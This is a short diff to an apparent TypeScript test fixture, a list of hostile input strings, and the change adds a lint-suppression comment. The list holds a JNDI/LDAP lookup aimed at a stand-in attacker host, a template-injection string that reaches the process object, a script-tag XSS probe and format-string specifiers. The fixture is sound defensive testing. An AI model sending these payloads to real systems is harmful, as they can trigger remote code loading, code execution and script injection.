@@ -42,6 +42,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '\0',
   '\x7f\x08\x08\x08',
   '%s %d %n %x %o %j',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger of others would look up
   '${jndi:ldap://attacker.test/a}',
   '{{constructor.constructor("return process")()}}',
   '<script>alert(1)</script>',
